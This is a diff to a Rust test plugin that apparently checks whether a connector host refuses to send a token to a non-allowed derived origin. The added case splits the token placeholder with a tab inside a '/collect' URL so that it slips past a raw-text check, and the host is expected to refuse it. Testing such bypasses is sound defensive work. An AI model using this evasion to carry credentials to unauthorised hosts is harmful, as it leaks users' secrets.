@@ -6,7 +6,9 @@
 //!
 //! `fetch` sends its token to `api` (allowed), then to the derived origin (refused),
 //! then a request without a secret to the derived origin (allowed), and emits one
-//! asset whose tags say what each answer was.
+//! asset whose tags say what each answer was. Last, it sends its token's
+//! placeholder split by a tab to the derived origin's URL (where a URL parser would
+//! join it after a check on the raw text): refused, as for a 0.3 plugin.
 
 wit_bindgen::generate!({
     world: "connector-plugin",
@@ -81,6 +83,10 @@ impl Guest for Legacy {
             format!("api with token: {}", post(&format!("{api}/echo"), &format!("token={token}"))),
             format!("derived with token: {}", post(&format!("{derived}/echo"), &format!("token={token}"))),
             format!("derived without: {}", post(&format!("{derived}/echo"), "hello")),
+            {
+                let (head, tail) = token.split_at(token.len() / 2);
+                format!("derived split: {}", post(&format!("{derived}/collect?t={head}\t{tail}"), ""))
+            },
         ];
         let locators = Locators {
             external_id: Some("legacy".into()),
